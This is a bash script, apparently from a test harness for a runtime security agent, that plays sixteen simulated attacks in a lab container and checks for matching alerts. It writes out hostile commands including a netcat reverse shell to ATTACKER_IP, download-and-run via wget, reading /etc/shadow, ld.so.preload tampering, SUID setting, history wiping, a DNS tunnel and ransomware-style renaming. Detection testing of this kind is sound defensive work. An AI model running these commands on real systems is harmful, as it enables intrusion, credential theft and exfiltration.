# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
# Attacks inside the client container, one for each class that any kernel can show. Each proves by its output that it really happened, so that a missing alert
# is the agent's fault and never that of a play that did not take place.

readonly ALERT_SECONDS=5
ATTACKS=()         # "name|rules expected|rules seen|played"
LISTENER_PID=""

# attack NAME FUNCTION RULE:PATTERN...: plays one attack and waits for the alerts that it must give.
attack() {
	local name=$1 play=$2 expected="" seen="" played=no rule alert
	shift 2
	title "$name"
	if "$play"; then played=yes; else say "${RED}the attack itself failed${PLAIN}"; fi
	for expectation in "$@"; do
		rule=${expectation%%:*}
		expected+="${expected:+ }$rule"
		((with_agent)) || continue
		if eventually "$ALERT_SECONDS" agent_alert "$rule" "${expectation#*:}" >/dev/null; then
			alert=$(agent_alert "$rule" "${expectation#*:}")
			seen+="${seen:+ }$rule"
			printf '   %s%s%s %s\n' "$GREEN" "$rule" "$PLAIN" "$alert"
		else
			printf '   %s%s%s no alert within %s s\n' "$RED" "$rule" "$PLAIN" "$ALERT_SECONDS"
		fi
	done
	ATTACKS+=("$name|$expected|$seen|$played")
}

play_dropped() {
	in_container client "wget -q -O /tmp/dropped http://$WEB_NAME/dropped && chmod +x /tmp/dropped && /tmp/dropped" | grep -q 'dropped: running'
}

play_fileless() {
	in_container client "wget -q -O /tmp/fileless http://$WEB_NAME/fileless && chmod +x /tmp/fileless && /tmp/fileless" | grep -q 'fileless: running from memory'
}

play_shadow() { in_container client 'cat /etc/shadow' | grep -q '^root:'; }

play_reverse_shell() {
	local answer=$WORK/reverse-shell.out code=0
	printf 'id\nexit\n' >"$WORK/reverse-shell.in"
	nsenter --net="$(netns web)" -- busybox nc -l -p "$ATTACKER_PORT" <"$WORK/reverse-shell.in" >"$answer" 2>/dev/null &
	LISTENER_PID=$!
	eventually 5 listener_is_there || return 1
	in_container client "/bin/nc $ATTACKER_IP $ATTACKER_PORT -e /bin/sh" || true
	eventually 5 grep -q 'uid=0' "$answer" || code=1
	listener_stop
	return $code
}

# The listener may take IPv4 through an IPv6 socket, hence both files; 0A is TCP_LISTEN.
listener_is_there() {
	in_netns web grep -qs "$(printf ':%04X [0-9A-F]*:0000 0A' "$ATTACKER_PORT")" /proc/net/tcp /proc/net/tcp6
}

listener_stop() {
	[[ -n $LISTENER_PID ]] || return 0
	child_kill "$LISTENER_PID"
	LISTENER_PID=""
}

play_shared_memory() {
	in_container client 'cp /bin/busybox /dev/shm/echo && /dev/shm/echo running from shared memory' | grep -q 'running from shared memory'
}

play_miner() { in_container client '/bin/true -o stratum+tcp://pool.example:4444 --donate-level 1 && echo mined' | grep -q mined; }

play_hidden() { in_container client 'mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/echo && /tmp/.x/echo hidden' | grep -q hidden; }

play_cloud_keys() { in_container client 'mkdir -p /root/.aws && echo "key = x" >/root/.aws/credentials && cat /root/.aws/credentials' | grep -q key; }

play_suid() { in_container client 'cp /bin/busybox /tmp/su && chmod u+s /tmp/su && ls -l /tmp/su' | grep -q '^-rws'; }

play_preload() { in_container client 'echo /tmp/x.so >/etc/ld.so.preload && cat /etc/ld.so.preload' | grep -q x.so; }

play_traces() { in_container client 'echo ls >/root/.ash_history && rm /root/.ash_history && ls -a /root' | { ! grep -q history; }; }

play_self_delete() { in_container client 'cp /bin/busybox /tmp/rm && /tmp/rm /tmp/rm && ls /tmp' | { ! grep -qx rm; }; }

play_injection() { in_container client 'sleep 2 & exec 7<>/proc/$!/mem && echo opened' | grep -q opened; }

play_port_scan() {
	# One line at the end: grep stops to read behind the first that it looks for, and a second one would end the scan.
	in_container client "closed=0; for p in \$(seq 1000 1025); do nc -w 1 $ATTACKER_IP \$p </dev/null || closed=\$((closed + 1)); done; echo closed \$closed" 2>/dev/null | grep -qx 'closed 26'
}

play_dns_tunnel() {
	in_container client "for i in \$(seq 10 27); do timeout 1 nslookup \${i}4d5a90000300000004000000ffff0000b800000000000000.t.example.com >/dev/null 2>&1 & done; wait; echo sent" | grep -q sent
}

play_ransomware() {
	# shellcheck disable=SC2016 # the container's shell expands it
	in_container client 'mkdir -p /data && for i in $(seq 1 30); do echo secret >/data/$i.pdf; mv /data/$i.pdf /data/$i.pdf.locked; done; ls /data | grep -c locked' | grep -qx 30
}

attacks_play() {
	attack "1 A new program is downloaded and run" play_dropped 'R0001:/tmp/dropped' 'R1001:/tmp/dropped' 'NA-0402:/tmp/dropped'
	attack "2 A program runs from memory only (memfd)" play_fileless 'R1005:memfd'
	attack "3 /etc/shadow is read" play_shadow 'R0010:/etc/shadow'
	attack "4 A reverse shell goes to a new address" play_reverse_shell "R0011:${ATTACKER_IP//./\\.}" 'NA-0101:/bin/sh' 'NA-0102:nc'
	attack "5 A program runs from /dev/shm" play_shared_memory 'R1000:/dev/shm'
	attack "6 A crypto miner is started" play_miner 'NA-0901:stratum'
	attack "7 A program runs from a hidden place" play_hidden 'NA-1204:/tmp/.x'
	attack "8 The keys of a cloud are printed" play_cloud_keys 'NA-0602:credentials'
	attack "9 A program gets the SUID bit" play_suid 'NA-1107:/tmp/su'
	attack "10 A library is put before all others" play_preload 'NA-1105:ld.so.preload'
	attack "11 The shell's history is deleted" play_traces 'NA-0501:ash_history'
	attack "12 A program deletes itself" play_self_delete 'NA-1209:/tmp/rm'
	attack "13 The memory of another process is opened" play_injection 'NA-1201:/mem'
	attack "14 The ports of another machine are tried" play_port_scan "NA-1402:${ATTACKER_IP//./\\.}"
	attack "15 Names carry data out" play_dns_tunnel 'NA-1601:example.com'
	attack "16 Files are renamed, as ransomware does" play_ransomware 'NA-1901:locked'
}

# attacks_table: the result of the demo; false unless every attack took place and gave what was expected.
attacks_table() {
	local line name expected seen played verdict code=0
	title "Expected against seen"
	printf '   %-46s %-24s %-24s %s\n' attack expected seen result
	for line in "${ATTACKS[@]}"; do
		IFS='|' read -r name expected seen played <<<"$line"
		verdict="${GREEN}ok$PLAIN"
		if [[ $played != yes ]] || { ((with_agent)) && [[ $expected != "$seen" ]]; }; then
			verdict="${RED}MISSED$PLAIN"
			code=1
		fi
		((with_agent)) || seen="(no agent)"
		printf '   %-46s %-24s %-24s %s\n' "$name" "$expected" "${seen:--}" "$verdict"
	done
	return $code
}
